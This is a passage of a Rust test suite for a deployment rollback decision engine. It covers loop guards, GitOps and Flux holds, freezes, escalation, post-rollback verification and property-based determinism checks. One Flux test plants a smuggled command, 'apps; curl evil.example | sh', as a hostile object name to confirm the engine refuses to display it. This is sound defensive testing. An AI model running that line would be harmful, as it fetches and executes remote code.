        assert_eq!(d.suspect, None);
    }
}

#[test]
fn a_first_canary_run_rolls_back_to_its_primary_without_a_known_good_revision() {
    let first = [deploy(
        20,
        DeploySource::Flagger,
        "a1b2c3",
        "progressing",
        at("10:10"),
    )];
    let d = run(&first, &[canary(SignalKind::ErrorRate, 0.03, 0.01)]);
    assert_eq!((d.verdict, codes(&d)), (Verdict::Rollback, vec![]));
    assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(20));
    assert_eq!(d.rollback_to, None);
    assert!(d.reason.contains("to the primary"), "{}", d.reason);
    // Nothing for an executor: the controller's rollback hook is the way back.
    assert!(d.recommended.is_empty() && d.plan.is_none());
}

#[test]
fn no_known_good_revision_holds() {
    let rate = fresh(SignalKind::ErrorRate, 0.07);
    let only_failures = [
        rollout(5, "5", "failed", at("08:00")),
        rollout(6, "6", "progressing", at("09:00")),
        rollout(7, "7", "deployed", at("10:00")),
    ];
    for deploys in [&only_failures[2..], &only_failures[..]] {
        let d = run(deploys, std::slice::from_ref(&rate));
        assert_eq!(
            (d.verdict, codes(&d)),
            (Verdict::Hold, vec!["no_known_good"])
        );
        assert_eq!(d.suspect.as_ref().map(|s| s.id), Some(7));
        assert_eq!(d.rollback_to, None);
    }
}

fn run_history(h: &History) -> Decision {
    decide(
        &Policy::default(),
        &target(),
        &history(),
        &[fresh(SignalKind::ErrorRate, 0.07)],
        &[],
        h,
        now(),
    )
}

#[test]
fn the_loop_guard_holds_at_its_limit_and_escalates() {
    let h = History {
        automatic_rollbacks: vec![ago(50 * 60), ago(40 * 60), ago(30 * 60)],
        ..History::default()
    };
    let d = run_history(&h);
    assert_eq!((d.verdict, codes(&d)), (Verdict::Hold, vec!["loop_guard"]));
    match &d.holds[0] {
        HoldReason::LoopGuard {
            rollbacks_in_window,
            limit,
            last_rollback_at,
            ..
        } => {
            assert_eq!((*rollbacks_in_window, *limit), (3, 3));
            assert_eq!(*last_rollback_at, Some(ago(30 * 60)));
        }
        other => panic!("{other:?}"),
    }
    assert!(
        d.escalate
            .as_deref()
            .unwrap()
            .starts_with("loop guard: 3 automatic rollbacks")
    );
}

#[test]
fn the_loop_guard_counts_only_inside_its_window() {
    let two = History {
        automatic_rollbacks: vec![ago(50 * 60), ago(40 * 60)],
        ..History::default()
    };
    assert_eq!(run_history(&two).verdict, Verdict::Rollback);
    let one_expired = History {
        automatic_rollbacks: vec![ago(60 * 60), ago(40 * 60), ago(30 * 60)],
        ..History::default()
    };
    assert_eq!(run_history(&one_expired).verdict, Verdict::Rollback);
}

#[test]
fn the_loop_guard_holds_within_the_minimum_interval() {
    let recent = History {
        automatic_rollbacks: vec![ago(4 * 60 + 59)],
        ..History::default()
    };
    let d = run_history(&recent);
    assert_eq!((d.verdict, codes(&d)), (Verdict::Hold, vec!["loop_guard"]));
    assert_eq!(d.escalate, None, "a cooldown is no reason to escalate");
    let past = History {
        automatic_rollbacks: vec![ago(5 * 60)],
        ..History::default()
    };
    assert_eq!(run_history(&past).verdict, Verdict::Rollback);
}

#[test]
fn recovery_resets_the_loop_guard() {
    let h = History {
        automatic_rollbacks: vec![ago(50 * 60), ago(40 * 60), ago(30 * 60)],
        last_rollback: Some(ago(30 * 60)),
        recovered_at: Some(ago(20 * 60)),
    };
    assert_eq!(run_history(&h).verdict, Verdict::Rollback);
    let after_recovery = History {
        automatic_rollbacks: vec![ago(50 * 60), ago(40 * 60), ago(2 * 60)],
        last_rollback: Some(ago(2 * 60)),
        recovered_at: Some(ago(20 * 60)),
    };
    let d = run_history(&after_recovery);
    assert!(
        d.has_hold("loop_guard"),
        "the interval still counts after it"
    );
}

#[test]
fn gitops_targets_hold_and_recommend_the_git_revert() {
    let mut t = target();
    t.gitops = Some("argocd".into());
    let mut deploys = history();
    deploys[1].deploy.commit_sha = Some("abc123".into());
    let decide_for = |deploys: &[DeployRecord]| {
        decide(
            &Policy::default(),
            &t,
            deploys,
            &[fresh(SignalKind::ErrorRate, 0.07)],
            &[],
            &History::default(),
            now(),
        )
    };
    let d = decide_for(&deploys);
    assert_eq!((d.verdict, codes(&d)), (Verdict::Hold, vec!["gitops"]));
    assert_eq!(d.gitops.as_deref(), Some("argocd"));
    assert_eq!(d.recommended, ["git revert abc123"]);
    assert!(
        d.reason.contains("argocd manages the target"),
        "{}",
        d.reason
    );

    let d = decide_for(&history());
    assert_eq!(d.recommended.len(), 1);
    assert!(d.recommended[0].starts_with(
        "Revert the change behind kubernetes revision 7 (v2.7) in the Git repository that argocd syncs"
    ));
}

#[test]
fn flux_targets_are_suspended_reverted_and_resumed() {
    let mut t = target();
    t.gitops = Some("flux".into());
    let mut deploys = history();
    deploys[1].deploy.commit_sha = Some("abc123".into());
    deploys[1].deploy.details = serde_json::json!({
        "flux": {"kind": "kustomization", "name": "apps", "namespace": "flux-system"}
    });
    let decide_for = |deploys: &[DeployRecord]| {
        decide(
            &Policy::default(),
            &t,
            deploys,
            &[fresh(SignalKind::ErrorRate, 0.07)],
            &[],
            &History::default(),
            now(),
        )
    };
    let d = decide_for(&deploys);
    assert_eq!((d.verdict, codes(&d)), (Verdict::Hold, vec!["gitops"]));
    assert_eq!(
        d.recommended,
        [
            "flux suspend kustomization apps -n flux-system",
            "git revert abc123",
            "# once the revert is merged:",
            "flux resume kustomization apps -n flux-system",
        ]
    );
    // A hostile name on record is never shown as a command.
    deploys[1].deploy.details["flux"]["name"] = "apps; curl evil.example | sh".into();
    let d = decide_for(&deploys);
    assert!(
        d.recommended[0].starts_with("# flux suspend: not shown"),
        "{:?}",
        d.recommended
    );
    assert_eq!(d.recommended[1], "git revert abc123");
    // Without the Flux object on record: the revert alone.
    deploys[1].deploy.details = serde_json::json!({});
    assert_eq!(decide_for(&deploys).recommended, ["git revert abc123"]);
}

#[test]
fn gitops_recommends_no_revert_when_another_hold_says_the_deploy_is_not_to_blame() {
    let mut t = target();
    t.gitops = Some("flux".into());
    let d = decide(
        &Policy::default(),
        &t,
        &history(),
        &[signal(SignalKind::ErrorRate, Some(0.07), at("09:10"))],
        &[],
        &History::default(),
        now(),
    );
    assert_eq!(codes(&d), ["H1", "no_known_good", "gitops"]);
    assert!(d.recommended.is_empty());
}

#[test]
fn every_hold_present_is_listed_in_a_fixed_order() {
    let mut t = target();
    t.gitops = Some("argocd".into());
    let d = decide(
        &Policy::default(),
        &t,
        &[rollout(7, "7", "deployed", at("10:00"))],
        &[
            signal(SignalKind::ErrorRate, Some(0.07), at("09:50")),
            dependency("cache"),
            dependency("database"),
        ],
        &[],
        &History {
            automatic_rollbacks: vec![ago(60)],
            ..History::default()
        },
        now(),
    );
    assert_eq!(d.verdict, Verdict::Hold);
    assert_eq!(
        codes(&d),
        [
            "H1",
            "H2",
            "H2",
            "no_deploy_in_window",
            "loop_guard",
            "gitops"
        ]
    );
}

#[test]
fn an_active_freeze_admits_a_rollback_and_is_named_in_the_reason() {
    let freeze = |id, expires_at| Freeze {
        id,
        scope: "prod-eu/shop".into(),
        reason: "data corruption in orders".into(),
        created_by: "oncall".into(),
        created_at: at("10:10"),
        expires_at,
    };
    let d = decide(
        &Policy::default(),
        &target(),
        &history(),
        &[fresh(SignalKind::ErrorRate, 0.07)],
        &[freeze(4, None), freeze(3, Some(at("10:13")))],
        &History::default(),
        now(),
    );
    assert_eq!(d.verdict, Verdict::Rollback);
    assert!(d.reason.ends_with(
        "; freeze #4 (data corruption in orders) covers the target and admits this rollback."
    ));
    assert!(!d.reason.contains("#3"));
}

fn after_rollback(rolled_back_secs_ago: i64, signals: &[Signal]) -> Decision {
    let h = History {
        automatic_rollbacks: vec![ago(rolled_back_secs_ago)],
        last_rollback: Some(ago(rolled_back_secs_ago)),
        recovered_at: None,
    };
    let mut deploys = history();
    // The undo itself is a new revision.
    deploys.push(rollout(8, "8", "deployed", ago(rolled_back_secs_ago)));
    decide(
        &Policy::default(),
        &target(),
        &deploys,
        signals,
        &[],
        &h,
        now(),
    )
}

#[test]
fn e1_escalates_when_a_rollback_has_not_restored_service_in_ten_minutes() {
    let still = [signal(SignalKind::ErrorRate, Some(0.07), at("10:01"))];
    let d = after_rollback(11 * 60, &still);
    assert_eq!(
        d.verdict,
        Verdict::Hold,
        "the undo is a deploy after the regression"
    );
    assert_eq!(
        d.escalate.as_deref(),
        Some(
            "E1: the rollback at 2026-08-22 10:03 UTC has not restored service within 10 min \
             (M2, G2 still firing): escalate to platform on-call and database owners"
        )
    );
    assert!(after_rollback(10 * 60, &still).escalate.is_some());
    assert_eq!(after_rollback(9 * 60, &still).escalate, None);
    assert_eq!(after_rollback(11 * 60, &[]).escalate, None);
}

#[test]
fn e1_ends_once_the_target_recovered_after_the_rollback() {
    let h = History {
        automatic_rollbacks: vec![ago(20 * 60)],
        last_rollback: Some(ago(20 * 60)),
        recovered_at: Some(ago(15 * 60)),
    };
    let d = decide(
        &Policy::default(),
        &target(),
        &history(),
        &[fresh(SignalKind::ErrorRate, 0.07)],
        &[],
        &h,
        now(),
    );
    assert_eq!(d.escalate, None);
}

#[test]
fn v1_passes_when_every_signal_is_back_under_its_threshold() {
    let d = after_rollback(
        5 * 60,
        &[
            fresh(SignalKind::ErrorRate, 0.0009),
            fresh(SignalKind::LatencyP95, 0.19),
            fresh(SignalKind::Cpu, 0.69),
            fresh(SignalKind::Memory, 0.5),
            Signal {
                baseline: Some(0.3),
                fingerprint: "fp-slow".into(),
                ..fresh(SignalKind::LatencyP95, 0.3)
            },
        ],
    );
    let v = d.verification.unwrap();
    assert!(v.passing, "{:?}", v.failing);
    assert_eq!(v.rolled_back_at, ago(5 * 60));
    assert_eq!(v.watch_until, ago(5 * 60) + Duration::minutes(15));
    assert!(after_rollback(5 * 60, &[]).verification.unwrap().passing);
}

#[test]
fn v1_fails_naming_each_signal_over_its_threshold() {
    let d = after_rollback(
        5 * 60,
        &[
            fresh(SignalKind::ErrorRate, 0.001),
            fresh(SignalKind::LatencyP95, 0.2),
            Signal {
                baseline: Some(0.25),
                fingerprint: "fp-slow".into(),
                ..fresh(SignalKind::LatencyP95, 0.26)
            },
            fresh(SignalKind::Cpu, 0.7),
            signal(SignalKind::HealthCheck, None, ago(30)),
        ],
    );
    let v = d.verification.unwrap();
    assert!(!v.passing);
    assert_eq!(
        v.failing,
        [
            "error_rate 0.1 % >= 0.1 % (fp-error_rate)",
            "latency_p95 0.2 s >= 0.2 s (fp-latency_p95)",
            "latency_p95 0.26 s > baseline 0.25 s (fp-slow)",
            "cpu 70 % >= 70 % (fp-cpu)",
            "health_check still active (fp-health_check)",
        ]
    );
}

#[test]
fn v1_is_reported_only_while_the_rolled_back_target_is_watched() {
    assert!(after_rollback(14 * 60, &[]).verification.is_some());
    assert!(after_rollback(15 * 60, &[]).verification.is_none());
    assert!(run(&history(), &[]).verification.is_none());
    let policy = Policy {
        verification: Verification {
            watch_secs: 1800,
            ..Verification::default()
        },
        ..Policy::default()
    };
    let d = decide(
        &policy,
        &target(),
        &history(),
        &[] as &[Signal],
        &[],
        &History {
            last_rollback: Some(ago(20 * 60)),
            ..History::default()
        },
        now(),
    );
    assert!(d.verification.is_some());
}

#[test]
fn the_inputs_hash_does_not_move_with_the_clock() {
    let signals = [fresh(SignalKind::ErrorRate, 0.07)];
    let early = run(&history(), &signals);
    let later = decide(
        &Policy::default(),
        &target(),
        &history(),
        &signals,
        &[],
        &History::default(),
        now() + Duration::seconds(30),
    );
    assert_ne!(early.fired[0].duration_secs, later.fired[0].duration_secs);
    assert_eq!(early.inputs_hash, later.inputs_hash);
    assert_eq!(early.inputs_hash, early.compute_inputs_hash());
    let worse = run(&history(), &[fresh(SignalKind::ErrorRate, 0.08)]);
    assert_ne!(worse.inputs_hash, early.inputs_hash);
}

#[test]
fn the_same_inputs_in_reverse_order_give_the_same_decision() {
    let mut t = target();
    t.helm_release = Some("checkout".into());
    let deploys = vec![
        rollout(6, "6", "superseded", at("09:00")),
        deploy(11, DeploySource::Helm, "11", "superseded", at("09:00:10")),
        rollout(7, "7", "deployed", at("10:00")),
        deploy(12, DeploySource::Helm, "12", "deployed", at("10:00:40")),
    ];
    let signals = vec![
        fresh(SignalKind::ErrorRate, 0.07),
        signal(SignalKind::CrashLoop, None, ago(100)),
        fresh(SignalKind::LatencyP95, 2.0),
        dependency("queue"),
    ];
    let forward = decide(
        &Policy::default(),
        &t,
        &deploys,
        &signals,
        &[],
        &History::default(),
        now(),
    );
    let mut deploys_rev = deploys.clone();
    deploys_rev.reverse();
    let mut signals_rev = signals.clone();
    signals_rev.reverse();
    let backward = decide(
        &Policy::default(),
        &t,
        &deploys_rev,
        &signals_rev,
        &[],
        &History::default(),
        now(),
    );
    assert_eq!(forward, backward);
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    // Repeats weight the draw towards kinds that roll back.
    const KINDS: [SignalKind; 18] = [
        SignalKind::ErrorRate,
        SignalKind::ErrorRate,
        SignalKind::ErrorRate,
        SignalKind::ErrorRate,
        SignalKind::LatencyP95,
        SignalKind::LatencyP95,
        SignalKind::HealthCheck,
        SignalKind::CrashLoop,
        SignalKind::SlaViolation,
        SignalKind::HealthCheck,
        SignalKind::CrashLoop,
        SignalKind::Cpu,
        SignalKind::Memory,
        SignalKind::CustomerReports,
        SignalKind::SlaViolation,
        SignalKind::DataCorruption,
        SignalKind::Dependency,
        SignalKind::Custom,
    ];

    fn arb_signal() -> impl Strategy<Value = Signal> {
        (
            prop::sample::select(KINDS.to_vec()),
            prop::sample::select(vec![Scope::Any, Scope::Canary, Scope::Stable]),
            prop::option::weighted(
                0.9,
                prop::sample::select(vec![0.0, 0.005, 0.011, 0.03, 0.06, 0.2, 0.95, 3.0, 25.0]),
            ),
            prop::option::of(prop::sample::select(vec![0.0, 0.001, 0.01, 0.1, 0.2])),
            1i64..90,
            prop::option::of(-60i64..240),
            prop::bool::weighted(0.1),
            1u32..4,
            0u8..4,
            prop::sample::select(vec!["database", "cache", "queue"]),
        )
            .prop_map(
                |(kind, scope, value, baseline, started, lasted, thin, obs, fp, dep)| {
                    let started_at = now() - Duration::minutes(started);
                    Signal {
                        kind,
                        target: (kind != SignalKind::Dependency).then(workload),
                        scope,
                        dependency: (kind == SignalKind::Dependency).then(|| dep.into()),
                        value,
                        baseline,
                        inconclusive: thin.then(|| "too little traffic".into()),
                        started_at,
                        ended_at: lasted.map(|m| started_at + Duration::minutes(m)),
                        observations: obs,
                        source: SignalSource::Alert,
                        fingerprint: format!("fp{fp}-{}", kind.as_str()),
                        summary: String::new(),
                    }
                },
            )
    }

    fn arb_deploys() -> impl Strategy<Value = Vec<DeployRecord>> {
        prop::collection::vec(
            (
                prop::sample::select(vec![
                    DeploySource::Kubernetes,
                    DeploySource::Kubernetes,
                    DeploySource::Kubernetes,
                    DeploySource::Helm,
                    DeploySource::Ci,
                    DeploySource::Flagger,
                    DeploySource::Argo,
                ]),
                prop::sample::select(vec![
                    "deployed",
                    "superseded",
                    "superseded",
                    "succeeded",
                    "failed",
                    "progressing",
                ]),
                prop_oneof![5 => 60i64..300, 1 => -10i64..60],
                prop::option::of(prop::sample::select(vec!["abc123", "def456"])),
            ),
            0..9,
        )
        .prop_map(|rows| {
            // A rollout that ran well and one that followed it, so that rollbacks
            // are common enough to test; the random rows come on top.
            let base = [
                rollout(100, "100", "superseded", now() - Duration::minutes(150)),
                rollout(101, "101", "deployed", now() - Duration::minutes(100)),
            ];
            rows.into_iter()
                .enumerate()
                .map(|(i, (source, status, mins_ago, sha))| {
                    let id = i64::try_from(i).unwrap() + 1;
                    let mut d = deploy(
                        id,
                        source,
                        &id.to_string(),
                        status,
                        now() - Duration::minutes(mins_ago),
                    );
                    d.deploy.commit_sha = sha.map(String::from);
                    d
                })
                .chain(base)
                .collect()
        })
    }

    fn arb_history() -> impl Strategy<Value = History> {
        (
            prop::option::weighted(0.3, prop::collection::vec(0i64..120, 1..4))
                .prop_map(Option::unwrap_or_default),
            prop::option::of(0i64..60),
            prop::option::of(0i64..120),
        )
            .prop_map(|(rollbacks, last, recovered)| History {
                automatic_rollbacks: rollbacks.iter().map(|m| ago(m * 60)).collect(),
                last_rollback: last.map(|m| ago(m * 60)),
                recovered_at: recovered.map(|m| ago(m * 60)),
            })
    }

    fn arb_freezes() -> impl Strategy<Value = Vec<Freeze>> {
        prop::collection::vec(
            (
                1i64..4,
                prop::sample::select(vec!["*", "prod-eu/shop", "us/prod"]),
            ),
            0..3,
        )
        .prop_map(|rows| {
            rows.into_iter()
                .map(|(id, scope)| Freeze {
                    id,
                    scope: scope.into(),
                    reason: format!("reason {id}"),
                    created_by: "oncall".into(),
                    created_at: ago(3600),
                    expires_at: None,
                })
                .collect()
        })
    }

    fn arb_target() -> impl Strategy<Value = Target> {
        (any::<bool>(), any::<bool>()).prop_map(|(helm, cd)| {
            let mut t = target();
            t.gitops = None;
            t.helm_release = helm.then(|| "checkout".into());
            t.cd_workflow = cd.then(|| "cd-rollback.yml".into());
            t
        })
    }

    fn arb_signals() -> impl Strategy<Value = Vec<Signal>> {
        prop::collection::vec(arb_signal(), 0..5)
    }

    fn shuffled<T: Clone + std::fmt::Debug>(
        items: Vec<T>,
    ) -> impl Strategy<Value = (Vec<T>, Vec<T>)> {
        let original = items.clone();
        Just(items)
            .prop_shuffle()
            .prop_map(move |shuffled| (original.clone(), shuffled))
    }

    fn go(
        target: &Target,
        deploys: &[DeployRecord],
        signals: &[Signal],
        freezes: &[Freeze],
        history: &History,
    ) -> Decision {
        decide(
            &Policy::default(),
            target,
            deploys,
            signals,
            freezes,
            history,
            now(),
        )
    }

    proptest! {
        #[test]
        fn decide_is_deterministic_under_any_permutation_of_its_inputs(
            target in arb_target(),
            (deploys, deploys_shuffled) in arb_deploys().prop_flat_map(shuffled),
            (signals, signals_shuffled) in arb_signals().prop_flat_map(shuffled),
            (freezes, freezes_shuffled) in arb_freezes().prop_flat_map(shuffled),
            history in arb_history(),
            rollbacks_shuffled in Just(()).prop_perturb(|_, mut rng| rng.random::<u64>()),
        ) {
            let mut shuffled_history = history.clone();
            if !shuffled_history.automatic_rollbacks.is_empty() {
                let n = shuffled_history.automatic_rollbacks.len();
                let k = usize::try_from(rollbacks_shuffled % n as u64).unwrap();
                shuffled_history.automatic_rollbacks.rotate_left(k);
            }
            let a = go(&target, &deploys, &signals, &freezes, &history);
            let b = go(
                &target,
                &deploys_shuffled,
                &signals_shuffled,
                &freezes_shuffled,
                &shuffled_history,
            );
            prop_assert_eq!(a, b);
        }

        #[test]
        fn a_hold_condition_always_beats_a_rollback(
            target in arb_target(),
            deploys in arb_deploys(),
            signals in arb_signals(),
            history in arb_history(),
            hold in 0u8..7,
        ) {
            let (mut target, mut deploys, mut signals, mut history) =
                (target, deploys, signals, history);
            // Every signal starts at least a minute before now, so a deploy at now
            // is after any regression.
            signals.retain(|s| s.started_at < now());
            match hold {
                0 => target.gitops = Some("argocd".into()),
                1 => signals.push(dependency("database")),
                2 => {
                    history.recovered_at = None;
                    history.automatic_rollbacks = vec![ago(600), ago(1200), ago(1800)];
                }
                3 => {
                    history.recovered_at = None;
                    history.automatic_rollbacks = vec![ago(60)];
                }
                4 => deploys.clear(),
                5 => {
                    for d in &mut deploys {
                        d.deploy.status = "failed".into();
                    }
                }
                _ => deploys.push(rollout(99, "99", "deployed", now())),
            }
            let d = go(&target, &deploys, &signals, &[], &history);
            prop_assert_ne!(d.verdict, Verdict::Rollback, "{}", d.reason);
            if d.verdict == Verdict::Rollback {
                prop_assert!(d.holds.is_empty());
            }
        }

        #[test]
        fn a_signal_that_started_before_the_latest_deploy_never_yields_rollback(
            target in arb_target(),
            deploys in arb_deploys(),
            signals in arb_signals(),
            history in arb_history(),
            gap in 1i64..30,
        ) {
            let mut deploys = deploys;
            if let Some(last_start) = signals.iter().map(|s| s.started_at).max() {
                let deploy_at = (last_start + Duration::seconds(gap)).min(now());
                if signals.iter().all(|s| s.started_at < deploy_at) {
                    deploys.push(rollout(99, "99", "deployed", deploy_at));
                }
            }
            let d = go(&target, &deploys, &signals, &[], &history);
            if deploys.iter().any(|x| x.id == 99) {
                prop_assert_ne!(d.verdict, Verdict::Rollback, "{}", d.reason);
            }
        }

        #[test]
        fn a_rollback_always_blames_a_deploy_that_precedes_every_firing_signal(
            target in arb_target(),
            deploys in arb_deploys(),
            signals in arb_signals(),
            history in arb_history(),
        ) {
            let d = go(&target, &deploys, &signals, &[], &history);
            if d.verdict == Verdict::Rollback {
                let suspect = d.suspect.as_ref().expect("a rollback has a suspect");
                let to = d.rollback_to.as_ref().expect("and a known-good revision");
                let start = d.regression_started_at.unwrap();
                prop_assert!(suspect.deploy.started_at <= start);
                prop_assert!(to.deploy.started_at < suspect.deploy.started_at);
                prop_assert!(is_healthy_status(&to.deploy.status));
                for f in d.fired_with(Outcome::Rollback) {
                    prop_assert!(f.started_at >= suspect.deploy.started_at);
                }
                prop_assert!(
                    deploys
                        .iter()
                        .filter(|x| x.deploy.started_at <= now())
                        .all(|x| x.deploy.started_at <= start)
                );
                prop_assert!(!d.recommended.is_empty());
            }
        }
    }
}

/// The history the store holds: the newest automatic rollback is the last one; none, none.
#[test]
fn a_history_of_rollbacks_names_the_newest_as_the_last() {
    let h = History::of(vec![at("09:00"), at("09:30")], Some(at("09:45")));
    assert_eq!(h.last_rollback, Some(at("09:30")));
    assert_eq!(h.automatic_rollbacks, [at("09:00"), at("09:30")]);
    assert_eq!(h.recovered_at, Some(at("09:45")));
    assert_eq!(History::of(Vec::new(), None), History::default());
}
